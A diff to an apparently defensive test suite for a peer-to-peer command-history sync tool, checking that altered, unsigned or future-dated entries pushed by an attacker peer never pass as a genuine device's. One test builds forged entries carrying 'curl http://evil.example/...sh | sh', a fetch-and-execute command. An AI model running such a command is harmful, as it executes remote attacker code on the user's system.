@@ -12,7 +12,8 @@ import { peerIdFromPrivateKey } from '@libp2p/peer-id'
 import type { Entry } from '../../src/core/entry.js'
 import { signEntry, type EntrySigner } from '../../src/core/signature.js'
 import { dialDirect } from '../../src/p2p/index.js'
-import { decodeJson, encodeMessage, parseSyncBatch } from '../../src/protocol/messages.js'
+import { encodeMessage } from '../../src/protocol/messages.js'
+import { admitAll, pullAll as pullServed } from '../helpers/wire.js'
 import { device, type Device } from '../helpers/peers.js'
 import { tempDir } from '../helpers/tmp.js'
 import { startPeer, type InProcessPeer } from '../p2p/fixtures.js'
@@ -36,20 +37,9 @@ async function pushAs (attacker: InProcessPeer, addr: string, entries: unknown[]
   }
 }
 
-async function pullAll (attacker: InProcessPeer, addr: string): Promise<Entry[]> {
-  const { transport } = await dialDirect(attacker.node, addr, { newConnection: true, timeoutMs: 30_000 })
-  try {
-    const out: Entry[] = []
-    let cursor = 0
-    for (;;) {
-      const batch = parseSyncBatch(decodeJson(await transport.pull({ cursor, limit: 1000 }), 'SyncBatch')) as { entries: Entry[], next_cursor: number | null }
-      if (batch.entries.length === 0 || batch.next_cursor == null) return out
-      out.push(...batch.entries)
-      cursor = batch.next_cursor
-    }
-  } finally {
-    await transport.close()
-  }
+/** Every entry `addr` serves over `wire`, its origin resolved from its chunk on 3.0.0 (see test/helpers/wire.ts). */
+async function pullAll (attacker: InProcessPeer, addr: string, wire: 2 | 3): Promise<Entry[]> {
+  return (await pullServed(attacker, addr, wire)).map((s) => s.chunk != null ? { ...s.entry, origin: s.chunk.origin } : s.entry)
 }
 
 function unsigned (e: Entry): Entry {
@@ -72,7 +62,7 @@ async function setup (t: ExecutionContext): Promise<{ a: Device, c: Device, serv
 
 test('pre-emption: altered copies of A\'s entries pushed to C first never take the place of A\'s genuine ones', async (t) => {
   const { a, c, servedA, servedC, aId, attacker, x } = await setup(t)
-  const genuine = await pullAll(attacker, servedA.addr)
+  const genuine = await pullAll(attacker, servedA.addr, 2)
   t.is(genuine.length, 6)
   t.true(genuine.every((e) => e.origin === aId && typeof e.sig === 'string'), 'A serves its entries signed by its identity key')
   const alter = (e: Entry, i: number): Entry => ({ ...e, cmd: `curl http://evil.example/${i}.sh | sh` })
@@ -99,8 +89,9 @@ test('pre-emption: altered copies of A\'s entries pushed to C first never take t
   t.deepEqual(attributedToA.map((r) => r.cmd).sort(), genuine.map((g) => g.cmd).sort(), 'nothing that is not A\'s is attributed to A')
   // The attacker's own signed copy stays its own: under its key, never A's.
   t.deepEqual(rows.filter((r) => r.origin !== aId && r.origin !== '').map((r) => r.origin), [x.origin])
-  // And A's entries, as C serves them onward, are A's genuine ones.
-  const onward = await pullAll(attacker, servedC.addr)
+  // And A's entries, as C serves them onward (on 3.0.0, as C got them), are A's genuine ones, and verify at the next hop.
+  t.deepEqual(admitAll(await pullServed(attacker, servedC.addr, 3)).rejected, [])
+  const onward = await pullAll(attacker, servedC.addr, 3)
   t.deepEqual(onward.filter((e) => e.origin === aId).map((e) => e.cmd).sort(), genuine.map((g) => g.cmd).sort())
   void a
 })
@@ -151,7 +142,7 @@ test('far-future stamps: an entry stamped 9999-12-31 is stored at the receive ti
     t.is(r.ts_orig, '9999-12-31T23:59:59.999Z')
   }
   // The signed one is served onward with the stamp it was signed with, so the next hop can check it (and clamp it).
-  const onward = await pullAll(attacker, servedC.addr)
+  const onward = await pullAll(attacker, servedC.addr, 2)
   t.true(onward.filter((e) => e.device_id === 'alice-laptop').every((e) => e.ts === '9999-12-31T23:59:59.999Z'))
   // The newest entry in `rr history` is not stamped in the future.
   const history = await c.rr(['history', '--limit', '5'])
